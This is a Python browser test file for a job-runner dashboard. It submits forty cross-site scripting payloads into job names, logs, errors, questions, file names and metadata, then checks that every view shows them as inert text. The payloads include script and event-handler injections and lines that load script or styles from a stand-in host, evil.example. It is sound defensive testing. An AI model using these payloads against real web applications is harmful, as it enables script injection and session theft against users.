"""Hostile texts in every field of a job that can carry one: the page shows them, and runs nothing.

Its policy would stop most of them, but has nothing to stop: none of them becomes markup at all.
"""

from typing import Any, Literal

import pytest
from pydantic import Field, create_model

from jobrunner import JobContext, JobRunner
from tests.paged import BROWSER, Tab, paged

pytestmark = BROWSER
DO = "window.pwned=1"
PAYLOADS = [
    f"<script>{DO}</script>",
    f"<ScRiPt >{DO}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    f"</script><script>{DO}</script>",
    f"--><script>{DO}</script><!--",
    f"<img src=x onerror={DO}>",
    f'<img src="x" onerror="{DO}">',
    f"<img src=x:x onerror={DO}//",
    f'"><img src=x onerror={DO}>',
    f"'><img src=x onerror={DO}>",
    f"`><img src=x onerror={DO}>",
    f"<svg onload={DO}>",
    f"<svg/onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{DO}'><text y=9>x</text></a></svg>",
    f"<math><mi xlink:href='data:x,<script>{DO}</script>'>x</mi></math>",
    f"<iframe src='javascript:{DO}'></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"<object data='data:text/html,<script>{DO}</script>'></object>",
    f"<embed src='javascript:{DO}'>",
    f"<body onload={DO}>",
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}></select>",
    f"<video><source onerror={DO}></video>",
    f"<audio src=x onerror={DO}></audio>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<form action='javascript:{DO}'><button>x</button></form>",
    f"<a href='javascript:{DO}'>x</a>",
    f"javascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<template><script>{DO}</script></template><noscript><img src=x onerror={DO}></noscript>",
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
    f"%3Cscript%3E{DO}%3C/script%3E&lt;script&gt;{DO}&lt;/script&gt;<\x00script>{DO}</script>",
]
PATHS = [f"a/{payload}.txt" for payload in PAYLOADS]
FOREIGN = """() => document.querySelectorAll(
  "main script, main img, main iframe, main object, main embed, main video, main audio, main style,"
  + "main link, main base, main meta, main math, main marquee, main svg:not(.chart svg),"
  + "main a:not([href^='#/']):not([href^='/jobs/']), main body, main template, main [onerror],"
  + "main [onload], main [onfocus], main [autofocus]").length"""


def asked(payload: str) -> Any:
    """Return what is asked for: its name, its texts and a choice of its are all the payload."""
    fields: dict[str, Any] = {
        "value": (Literal[payload, "other"], Field(title=payload, description=payload)),
    }  # fmt: skip
    return create_model(payload.replace("\x00", ""), **fields)


def make_runner() -> JobRunner:
    """Return a runner with a type for each payload, which puts it wherever it can."""
    runner = JobRunner(shutdown_timeout=0.0, workers=50)

    @runner.job
    async def fail(text: str) -> None:
        raise type(text, (ValueError,), {})(text)

    def register(payload: str) -> None:
        async def say(ctx: JobContext, text: str, path: str) -> Any:
            ctx.step(1, 2, payload)
            ctx.emit(payload)
            ctx.emit({payload: payload})
            ctx.log(payload, **{payload: payload})
            child = await ctx.submit("fail", {"text": payload})
            await child.wait()
            await ctx.ask(payload, schema=asked(payload))
            return {payload: [payload]}

        say.__doc__ = payload
        runner.job(name=payload.replace("\x00", ""))(say)

    for payload in PAYLOADS:
        register(payload)
    return runner


async def unharmed(tab: Tab, *, missing: bool = False) -> None:
    """Nothing has run, nothing was asked for elsewhere, and the policy had nothing to stop.

    Args:
        missing: Whether the browser may complain that something isn't there.
    """
    assert await tab.page.evaluate("() => window.pwned") is None
    assert await tab.violations() == []
    complaints = [each for each in tab.complaints if not (missing and "404" in each)]
    assert (tab.dialogs, complaints) == ([], [])
    assert await tab.page.evaluate(FOREIGN) == 0
    assert [url for url in tab.asked if not url.startswith(tab.url)] == []
    assert tab.page.url.startswith(tab.url)


async def submitted(runner: JobRunner, payload: str, path: str) -> Any:
    """Submit a job that has the payload wherever a submitter can put it."""
    text = payload.replace("\x00", "")
    return await runner.submit(
        text, {"text": payload, "path": path}, session_id=text[:128],
        metadata={payload: {payload: [payload]}}, concurrency_key=text[:128],
    )  # fmt: skip


async def test_a_hostile_text_is_a_text_wherever_it_stands() -> None:
    """Forty of them, each in the type, params, output, log, error, question, file name, session,
    metadata and result, looked at in every view."""
    assert len(PAYLOADS) == 40
    runner = make_runner()
    async with paged(runner) as tab:
        pairs = zip(PAYLOADS, PATHS, strict=True)
        jobs = [await submitted(runner, payload, path) for payload, path in pairs]
        await runner.submit_batch("fail", [{"text": payload} for payload in PAYLOADS])
        await tab.page.get_by_role("button", name="Needs answer 40").wait_for()
        await tab.see("120 jobs", ".count")
        await unharmed(tab)
        for job, payload in zip(jobs, PAYLOADS, strict=True):
            await tab.go(f"jobs/{job.id}")
            await tab.see(job.id)  # and not the job before
            await tab.page.locator(".question h2").wait_for()
            await tab.page.locator(".lines .log").wait_for()
            await tab.page.locator(".children .status[data-status=failed]").wait_for()
            shown = await tab.page.locator(".question h2").text_content()
            assert shown == payload, payload
            title = await tab.page.locator("h1").text_content()
            assert title == payload.replace("\x00", "")
            await unharmed(tab)
        for place in ("batches", "new", "?type=" + "%3Csvg%20onload%3Dwindow.pwned%3D1%3E",
                      "jobs/%3Cimg src=x onerror=window.pwned=1%3E",
                      "batches/%22%3E%3Cimg src=x onerror=window.pwned=1%3E"):  # fmt: skip
            await tab.go(place)
            shown = tab.page.locator(".stack, .field, .grid, .banner, .fault, .empty")
            await shown.filter(visible=True).first.wait_for()
            await unharmed(tab, missing=True)


@pytest.mark.parametrize("payload", PAYLOADS[6:8] + PAYLOADS[31:33])
async def test_what_a_hostile_job_says_last_is_a_text_too(payload: str) -> None:
    """Answered, failed, cancelled with a reason: each has texts of its own."""
    runner = make_runner()
    async with paged(runner) as tab:
        job = await submitted(runner, payload, payload)
        await tab.go(f"jobs/{job.id}")
        form = tab.page.locator(".question")
        await form.locator("select").select_option(label=payload)
        await form.get_by_role("button", name="Answer", exact=True).click()
        await tab.page.get_by_role("heading", name="Result").wait_for()
        await unharmed(tab)
        failed = await runner.submit("fail", {"text": payload})
        await tab.go(f"jobs/{failed.id}")
        await tab.page.locator(".detail").wait_for()
        assert await tab.page.locator(".detail").text_content() == payload
        await unharmed(tab)
        held = await runner.submit("fail", {"text": payload}, delay=3_600.0)
        await held.cancel(payload)
        await tab.go(f"jobs/{held.id}")
        await tab.see(payload, ".facts")
        await unharmed(tab)
